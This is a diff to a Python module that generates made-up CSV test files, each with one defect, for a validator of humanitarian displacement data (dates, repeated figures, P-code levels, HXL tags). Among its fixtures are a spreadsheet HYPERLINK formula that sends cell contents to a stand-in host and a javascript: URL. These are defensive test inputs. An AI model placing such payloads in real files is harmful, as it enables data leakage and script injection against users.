@@ -67,8 +67,15 @@ def csv_text(
 
 
 def one_bad(**cells: str) -> str:
-    """Two clean rows and, between them, one row with the defect."""
-    return csv_text([row(), row(**cells), row(**SALQIN)])
+    """Two clean rows and, between them, one row with the defect.
+
+    The defect row names its own document, so it is never the same figure as the first row
+    (that would be a second defect: a figure given twice, see ``madeup_repeat_*``).
+    """
+    return csv_text([row(), row(**{"document": DEFECT_DOC, **cells}), row(**SALQIN)])
+
+
+DEFECT_DOC = DOC + ", the row with the defect"
 
 
 def png_bytes() -> bytes:
@@ -240,6 +247,17 @@ def _hxl_misplaced() -> str:
     return csv_text([data[0], tags, data[1]], header=header)
 
 
+def _hxl_adm1_code_holds_subdistrict() -> str:
+    header = ["Date", "Governorate P-code", "IDPs present", "Source", "Document"]
+    tags = ["#date", "#adm1+code", "#affected+idps", "#meta+source", "#meta+document"]
+    data = [
+        ["2020-03-08", "SY07", "248842", "MADE-UP", DOC],
+        ["2020-03-08", "SY070300", "95268", "MADE-UP", DOC],  # a sub-district under #adm1
+        ["2020-03-08", "SY02", "1000", "MADE-UP", DOC],
+    ]
+    return csv_text([tags, *data], header=header)
+
+
 #: filename -> bytes. One defect each; the name says which.
 FILES: dict[str, Callable[[], bytes]] = {
     # --- encodings and delimiters (all rows good: the reader must cope) ---
@@ -263,6 +281,13 @@ FILES: dict[str, Callable[[], bytes]] = {
     "madeup_value_na.csv": lambda: one_bad(value="n/a").encode(),
     # --- dates ---
     "madeup_dayfirst_date_03_04_2020.csv": lambda: one_bad(period_end="03/04/2020").encode(),
+    "madeup_dayfirst_settled_by_25_03_2020.csv": lambda: csv_text(
+        [
+            row(),
+            row(document=DEFECT_DOC, period_end="03/04/2020"),
+            row(**SALQIN, period_end="25/03/2020"),
+        ]
+    ).encode(),
     "madeup_date_2020-02-30.csv": lambda: one_bad(period_end="2020-02-30").encode(),
     "madeup_date_31_04_2020.csv": lambda: one_bad(period_end="31/04/2020").encode(),
     "madeup_date_year_1820.csv": lambda: one_bad(period_end="1820-03-08").encode(),
@@ -312,6 +337,21 @@ FILES: dict[str, Callable[[], bytes]] = {
         note='=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
     ).encode(),
     "madeup_unknown_qualifier.csv": lambda: one_bad(qualifier="roughly-ish").encode(),
+    "madeup_url_javascript_scheme.csv": lambda: one_bad(url="javascript:alert(1)").encode(),
+    "madeup_url_without_scheme.csv": lambda: one_bad(url="www.example.org/report").encode(),
+    "madeup_carriage_return_in_note.csv": lambda: one_bad(note="line1\rline2").encode(),
+    # --- the same figure twice ---
+    "madeup_repeat_figure_different_value.csv": lambda: csv_text(
+        [row(), row(value="250000"), row(**SALQIN)]
+    ).encode(),
+    "madeup_repeat_figure_same_value.csv": lambda: csv_text(
+        [row(), row(), row(**SALQIN)]
+    ).encode(),
+    # --- P-code levels ---
+    "madeup_pcode_level_contradiction.csv": lambda: one_bad(
+        area_name_as_written="Harim", pcode="SY070300", pcode_level="1"
+    ).encode(),
+    "madeup_hxl_adm1_code_holds_subdistrict.csv": lambda: _hxl_adm1_code_holds_subdistrict().encode(),
     # --- other layouts ---
     "madeup_hxl_misplaced_hashtag_row.csv": lambda: _hxl_misplaced().encode(),
     "madeup_acled_bad_latitude.csv": lambda: csv_text(
